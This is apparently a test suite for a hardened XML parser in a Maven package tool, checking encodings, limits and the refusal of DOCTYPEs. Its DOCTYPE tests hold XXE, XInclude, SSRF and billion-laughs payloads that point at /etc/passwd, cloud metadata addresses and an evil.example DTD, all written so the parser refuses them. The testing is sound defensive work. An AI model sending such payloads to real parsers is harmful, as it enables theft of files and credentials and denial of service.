import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Invalid } from '../../../src/errors.ts'
import {
  childOf,
  entriesOf,
  parseXml,
  parseXmlInTurns,
  textOf,
  type XmlElement,
} from '../../../src/package-types/maven/xml.ts'

const MiB = 1024 * 1024
const LARGEST = 8 * MiB
const CHUNK = 64 * 1024

function parse(text: string): XmlElement {
  return parseXml(Buffer.from(text))
}

/** A document with as many repetitions as fit into so many characters. */
function filled(before: string, repeated: string, after = '', size = MiB + 4 * CHUNK): string {
  const times = Math.floor((size - before.length - after.length) / repeated.length)
  return before + repeated.repeat(times) + after
}

function utf16(text: string, { bigEndian = false } = {}): Buffer {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le')
  return bigEndian ? bytes.swap16() : bytes
}

describe('a tree', () => {
  test('has names without prefixes, text and children in their order', () => {
    const root = parse(`<?xml version="1.0"?>
      <!-- about --><?target data?>
      <m:project xmlns:m="urn:m" a="1"> some <groupId>com.acme</groupId><m:list><item>1</item><other/><item>2</item></m:list>text
      </m:project> <!-- end -->`)
    expect(root).toEqual({
      name: 'project',
      text: 'some text',
      children: [
        { name: 'groupId', text: 'com.acme', children: [] },
        {
          name: 'list',
          text: '',
          children: [
            { name: 'item', text: '1', children: [] },
            { name: 'other', text: '', children: [] },
            { name: 'item', text: '2', children: [] },
          ],
        },
      ],
    })
  })

  test.each([
    ['<a>  \r\n\t text \n </a>', 'text'],
    ['<a>\u00a0no blank\u2003</a>', '\u00a0no blank\u2003'],
    ['<a>one\r\ntwo\rthree</a>', 'one\ntwo\nthree'],
    ['<a><![CDATA[<b>&amp;]] ]]></a>', '<b>&amp;]]'],
    ['<a>1<![CDATA[ 2]]><b/> 3<!-- no --> 4<?no no?> 5</a>', '1 2 3 4 5'],
    ['<a>&lt;&#x1F600;&#65;&gt;&amp;&quot;&apos;</a>', '<\u{1f600}A>&"\''],
    ['<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/>1</a>', '1'],
    ['<?xml-stylesheet href="http://169.254.169.254/"?><a>1</a>', '1'],
    ['<!-- <!DOCTYPE a> --><?p <!DOCTYPE a> ?><a>1<!-- <!DOCTYPE a> --></a>', '1'],
    [' \r\n<?xml version="1.0"?><a>1</a>', '1'],
    ['\ufeff\n<?xml version="1.0"?><a>1</a>', '1'],
    ['\ufeff<a>1</a>', '1'],
  ])('%j has the text %j', (document, text) => {
    expect(parse(document).text).toBe(text)
  })

  test('knows the entities of HTML 4, as Maven does, and no others', () => {
    expect(parse('<a>&oslash;&nbsp;&copy;&Oslash;&yuml;&OElig;&euro;&mdash;&diams;&Omega;&sigmaf;</a>').text).toBe(
      'ø\u00a0©ØÿŒ€—♦Ως',
    )
    for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'unknown', 'oslash2', '152:', '']) {
      expect(() => parse(`<a>&${name};</a>`)).toThrow(Invalid)
    }
  })

  test('is the same wherever the parser pauses', () => {
    const document =
      '<a b="c&amp;d" e=\'f\'>1&lt;&#65;\r\n😀<x:y /><!-- - - --><![CDATA[]]]]><?pi ??><b>&oslash;</b>]]&gt;</a >\r\n'
    const expected = parse(document)
    expect(expected.text).toBe('1<A\n😀]]]]>')
    for (let before = 0; before <= document.length; before++) {
      const comment = `<!--${' '.repeat(CHUNK - before - '<!---->'.length)}-->`
      expect(parse(comment + document)).toEqual(expected)
    }
  })

  test('is found by names', () => {
    const root = parse('<a><b><c>1</c></b><b><c>2</c></b><l><i>x</i><j/><i>y</i></l><e> </e></a>')
    expect(childOf(root, 'b')?.children[0]?.text).toBe('1')
    expect(childOf(root, 'c')).toBeNull()
    expect(textOf(root, 'b', 'c')).toBe('1')
    expect(textOf(root, 'e')).toBeNull()
    expect(textOf(root, 'x', 'y')).toBeNull()
    expect(textOf(childOf(root, 'b')!.children[0]!)).toBe('1')
    expect(entriesOf(root, 'l', 'i').map(({ text }) => text)).toEqual(['x', 'y'])
    expect(entriesOf(root, 'x', 'i')).toEqual([])
  })
})

describe('what is not well-formed is refused', () => {
  test.each([
    '',
    ' ',
    'test',
    '{"a":1}',
    '<a>',
    '<a></b>',
    '<a/><b/>',
    '<a/>text',
    'text<a/>',
    '<a><b></a></b>',
    '</a>',
    '<a x="1" x="2"/>',
    '<a x=1/>',
    '<a x/>',
    '<a x="<"/>',
    '<a>&</a>',
    '<a>&lt</a>',
    '<a>&#0;</a>',
    '<a>&#xD800;</a>',
    '<a>&#99999999999999999999;</a>',
    '<a>\0</a>',
    '<a>\u0001</a>',
    '<a>\uffff</a>',
    '<a>]]></a>',
    '<a><![CDATA[</a>',
    '<a><!-- -- --></a>',
    '<a/><!--',
    '<!doctype a><a/>',
    '<!-- --><?xml version="1.0"?><a/>',
    '<?xml version="1.1"?><a/>',
    '<?xml version="1.1"?><a>&#1;</a>',
    '<?xml version="1.0"?><?xml version="1.0"?><a/>',
    '<?xml version="2.0"?><a/>',
    '<?xml encoding="utf-8"?><a/>',
    '<?xml version="1.0" encoding="utf-8"?>',
    '<?xml version="1.0" encoding=""?><a/>',
    '<!DOCTYPE html><html><p>Not found<br></html>',
  ])('%j', (document) => {
    expect(() => parse(document)).toThrow(Invalid)
  })

  test('with the place where it is wrong, and not too much of the document', () => {
    expect(() => parse('<a>\n<b></a>')).toThrow('the XML cannot be read: 2:7: unexpected close tag')
    const name = 'x'.repeat(100_000)
    try {
      parse(`<${name}>`)
      expect.unreachable()
    } catch (error) {
      expect((error as Error).message.length).toBeLessThan(200)
    }
  })
})

describe('a document type is refused, so nothing is ever expanded or fetched', () => {
  test.each([
    '<!DOCTYPE a><a/>',
    '<?xml version="1.0"?>\n<!-- c --><?p i?>\n<!DOCTYPE a><a/>',
    '<!DOCTYPE a SYSTEM "http://169.254.169.254/latest/meta-data/"><a/>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
    '<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;&x;"><!ENTITY z "&y;&y;&y;&y;">]><a>&z;</a>',
    `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(100_000)}">]><a>${'&x;'.repeat(10_000)}</a>`,
    '<!DOCTYPEa><a/>',
    '\ufeff<!DOCTYPE a><a/>',
  ])('%#', (document) => {
    expect(() => parse(document)).toThrow('it has a DOCTYPE')
  })

  test.each(['<a><!DOCTYPE a></a>', '<a/><!DOCTYPE a>', '<!-- -- --><!DOCTYPE a><a/>', '<!-->--><!DOCTYPE a><a/>'])(
    'where it may not even stand: %s',
    (document) => {
      expect(() => parse(document)).toThrow(Invalid)
    },
  )

  test('in any encoding', () => {
    expect(() => parseXml(utf16('<!DOCTYPE a><a/>'))).toThrow('it has a DOCTYPE')
    // What a reader of ASCII would not see.
    const utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-+ADw-a/+AD4-'
    expect(() => parse(utf7)).toThrow('its encoding utf-7 is not known')
    expect(() => parse(utf7.replace('UTF-7', 'UTF-8'))).toThrow(Invalid)
  })
})

describe('the encoding', () => {
  const declared = (encoding: string, text: string) => `<?xml version="1.0" encoding="${encoding}"?><a>${text}</a>`

  test.each<[string, Buffer, string]>([
    ['is UTF-8 without a declaration', Buffer.from('<a>é€😀</a>'), 'é€😀'],
    ['is the declared one', Buffer.from(declared('UTF-8', 'é€😀')), 'é€😀'],
    ['may be called utf8', Buffer.from(declared('utf8', 'é')), 'é'],
    ['may be UTF-8 with a mark', Buffer.from(`\ufeff${declared('UTF-8', 'é')}`), 'é'],
    ['may be ISO-8859-1', Buffer.from(declared('ISO-8859-1', 'é\u0085'), 'latin1'), 'é\u0085'],
    ['may be iso-8859-1', Buffer.from(declared('iso-8859-1', 'é'), 'latin1'), 'é'],
    ['may be ISO-8859-15', Buffer.from(declared('ISO-8859-15', 'é\u00a4'), 'latin1'), 'é€'],
    ['may be windows-1252', Buffer.from(declared('windows-1252', 'é\u0080\u0093\u009f'), 'latin1'), 'é€“Ÿ'],
    ['may be Cp1252', Buffer.from(declared('Cp1252', '\u0080'), 'latin1'), '€'],
    ['may be US-ASCII', Buffer.from(declared('US-ASCII', 'e')), 'e'],
    ['may be GBK', Buffer.from(declared('GBK', '\u00c4\u00e3'), 'latin1'), '你'],
    ['is that of the mark, not the declared one', Buffer.from(`\ufeff${declared('ISO-8859-1', 'é')}`), 'é'],
    ['is that of the mark of UTF-16 likewise', utf16(declared('UTF-8', 'é')), 'é'],
    ['is declared after blanks', Buffer.from(`\n ${declared('ISO-8859-1', 'é')}`, 'latin1'), 'é'],
    ['may be UTF-16 with a mark', utf16('<a>é€😀</a>'), 'é€😀'],
    ['may be UTF-16, big-endian', utf16('<a>é€😀</a>', { bigEndian: true }), 'é€😀'],
    ['may be UTF-16 with a mark and a declaration', utf16(declared('UTF-16', 'é')), 'é'],
    ['may be UTF-16, big-endian, declared', utf16(declared('utf-16', 'é'), { bigEndian: true }), 'é'],
    [
      'may be declared in other ways',
      Buffer.from("<?xml version='1.0'\n encoding = 'iso-8859-1'\t?><a>\xe9</a>", 'latin1'),
      'é',
    ],
  ])('%s', (_, bytes, text) => {
    expect(parseXml(bytes).text).toBe(text)
  })

  test.each<[string, Buffer, string]>([
    ['bytes that are no UTF-8', Buffer.from('<a>\xe9</a>', 'latin1'), 'it is not utf-8'],
    ['declared UTF-8 that is none', Buffer.from(declared('UTF-8', 'é'), 'latin1'), 'it is not utf-8'],
    ['an overlong sequence', Buffer.from('<a>\xc0\xbc</a>', 'latin1'), 'it is not utf-8'],
    ['an encoded surrogate', Buffer.from('<a>\xed\xa0\x80</a>', 'latin1'), 'it is not utf-8'],
    ['a cut sequence', Buffer.from('<a/>\xe2\x82', 'latin1'), 'it is not utf-8'],
    ['US-ASCII with other bytes', Buffer.from(declared('US-ASCII', 'é')), 'US-ASCII'],
    ['an unknown encoding', Buffer.from(declared('EBCDIC-CP-US', 'e')), 'its encoding ebcdic-cp-us is not known'],
    ['UTF-32', Buffer.from(declared('UTF-32', 'e')), 'not known'],
    ['UTF-16 without a mark', Buffer.from(declared('UTF-16', 'e'), 'utf16le'), 'disallowed character'],
    ['UTF-16 that is none', Buffer.from(declared('UTF-16', 'e')), 'no byte order mark'],
    ['UTF-16LE that is none', Buffer.from(declared('UTF-16LE', 'e')), 'cannot be read'],
    ['half a character of UTF-16', utf16('<a/>').subarray(0, -1), 'it is not utf-16le'],
    ['a lone surrogate', utf16('<a>\ud800</a>'), 'it is not utf-16le'],
    ['the mark of UTF-32', Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]), 'cannot be read'],
    [
      'a declaration too long to be found',
      Buffer.from(`<?xml version="1.0" ${' '.repeat(300)} encoding="iso-8859-1"?><a>é</a>`, 'latin1'),
      'it is not utf-8',
    ],
  ])('%s is refused', (_, bytes, message) => {
    expect(() => parseXml(bytes)).toThrow(Invalid)
    expect(() => parseXml(bytes)).toThrow(message)
  })
})

/** The message of the refusal. */
function failure(document: string): string {
  try {
    parse(document)
    return 'none'
  } catch (error) {
    expect(error).toBeInstanceOf(Invalid)
    return (error as Error).message
  }
}

describe('limits', () => {
  test.each<[string, string, string]>([
    ['too many bytes', filled('<a>', ' ', '</a>', LARGEST + 1), '8388608 bytes'],
    ['deep tags', filled('', '<a>', '', LARGEST), '100 deep'],
    ['deep tags that are closed', '<a>'.repeat(10_000) + '</a>'.repeat(10_000), '100 deep'],
    ['empty elements', filled('<a>', '<b/>', '</a>', 2 * MiB), '200000 elements'],
    ['elements with text', filled('<a>', '<b>x</b>', '</a>', 2 * MiB), '200000 elements'],
    ['long text', filled('<a>', 'x', '</a>'), '1048576 characters'],
    ['text just too long', `<a>${'x'.repeat(MiB + 1)}</a>`, 'an element has more than 1048576 characters'],
    ['text in pieces', filled('<a>', `${'text'.repeat(50)}<!---->`, '</a>'), '1048576 characters'],
    ['CDATA', filled('<a><![CDATA[', ']a]]', ']]></a>'), '1048576 characters'],
    ['many CDATA sections', filled('<a>', `<![CDATA[${'text'.repeat(50)}]]>`, '</a>'), '1048576 characters'],
    ['entities', filled('<a>', '&lt;', '</a>'), '1048576 characters'],
    ['character references', filled('<a>', '&#9;', '</a>'), '1048576 characters'],
    ['a document type', filled('<!DOCTYPE a [', '<!ENTITY a "&a;&a;">', ']><a/>', LARGEST), 'DOCTYPE'],
  ])('%s', (_, document, message) => {
    expect(failure(document)).toContain(message)
  })

  test('attributes', () => {
    const many = Array.from({ length: 250_000 }, (_, number) => `a${number}=""`).join(' ')
    expect(() => parse(`<a ${many}/>`)).toThrow('200000 elements and attributes')
    expect(() => parse(filled('<a a="', 'x', '"'))).toThrow(Invalid)
    expect(() => parse(filled('<a a="', '&lt;', '"'))).toThrow(Invalid)
    expect(() => parse(filled('<a ', 'a'))).toThrow(Invalid)
  })

  test.each<[string, string]>([
    ['a name', filled('<', 'a')],
    ['a closing name', filled('<a></', 'a')],
    ['an entity', filled('<a>&', 'a')],
    ['a hexadecimal reference', filled('<a>&#x', '0', '</a>')],
    ['a decimal reference', filled('<a>&#', '9', ';</a>')],
    ['a comment', filled('<!--', '- ')],
    ['dashes', filled('<!--', '-')],
    ['a processing instruction', filled('<?a ', '? ')],
    ['an XML declaration', filled('<?xml ', ' ')],
    ['an encoding', filled('<?xml version="1.0" encoding="', 'a', '"?><a/>')],
    ['unfinished markup', filled('<a>', '<')],
    ['unfinished CDATA', filled('<a><![CDATA[', ']')],
    ['brackets', filled('<a>', ']', '>')],
  ])('%s without end is refused', (_, document) => {
    expect(() => parse(document)).toThrow(Invalid)
  })

  test.each<[string, string]>([
    ['comments', filled('', '<!---->', '<a>1</a>')],
    ['processing instructions', filled('', '<?a?>', '<a>1</a>')],
    ['blanks', filled('', ' \r\n', '<a>1</a>', MiB)],
    ['long text', `<a>1<b>${'x'.repeat(MiB)}</b></a>`],
    ['blanks between', `<a>${' '.repeat(MiB - 2)}1</a>`],
    ['a comment of dashes', `<!--${'- '.repeat(MiB / 2 - CHUNK)}--><a>1</a>`],
    ['names', `<a>1<${'b'.repeat(MiB - 2 * CHUNK)}/></a>`],
    ['elements within limits', `<a>1${'<b/>'.repeat(199_999)}</a>`],
    ['depth within limits', `<a>1${'<b>'.repeat(99)}${'</b>'.repeat(99)}</a>`],
  ])('%s are read', (_, document) => {
    expect(parse(document).text).toBe('1')
  })
})

describe('in turns', () => {
  test('the same is read or refused', async () => {
    const document = '<a>1<b>2</b></a>'
    expect(await parseXmlInTurns(Buffer.from(document))).toEqual(parse(document))
    await expect(parseXmlInTurns(Buffer.from('<a>'))).rejects.toBeInstanceOf(Invalid)
    await expect(parseXmlInTurns(Buffer.from('<!DOCTYPE a><a/>'))).rejects.toThrow('it has a DOCTYPE')
  })

  test('others come in between', async () => {
    let turns = 0
    const counter = setInterval(() => (turns += 1), 0)
    const parsed = parseXmlInTurns(Buffer.from(`<a>${'<b>\r</b>'.repeat(CHUNK)}</a>`)).finally(() =>
      clearInterval(counter),
    )
    expect((await parsed).children).toHaveLength(CHUNK)
    expect(turns).toBeGreaterThan(1)
  })
})

describe('whatever the bytes are', () => {
  const onlyInvalid = (bytes: Buffer) => {
    try {
      parseXml(bytes)
    } catch (error) {
      expect(error).toBeInstanceOf(Invalid)
    }
  }

  test('nothing but Invalid is thrown', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => onlyInvalid(Buffer.from(bytes))))
  })

  test('nor for what looks like XML', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...[
          '<a>',
          '</a>',
          '<a/>',
          '<a b="c">',
          '<!--',
          '-->',
          '<![CDATA[',
          ']]>',
          '<?',
          '?>',
          '<?xml',
          ' version="1.0"',
        ],
        ...[
          ' encoding="utf-16"',
          ' encoding="latin1"',
          '<!DOCTYPE',
          '[',
          ']',
          '>',
          '<',
          '&',
          ';',
          '&lt;',
          '&#x',
          '&#0;',
        ],
        ...[
          '"',
          "'",
          '=',
          ':',
          'a:b',
          'xmlns',
          ' ',
          '\r',
          '\n',
          '\0',
          '\u0085',
          '\u2028',
          '\ufeff',
          '\ud83d',
          '\ude00',
        ],
      ),
      fc.string({ unit: 'binary', maxLength: 3 }),
    )
    const encoding = fc.constantFrom<BufferEncoding>('utf8', 'latin1', 'utf16le')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), encoding, (pieces, encoding) =>
        onlyInvalid(Buffer.from(pieces.join(''), encoding)),
      ),
      { numRuns: 1000 },
    )
  })
})
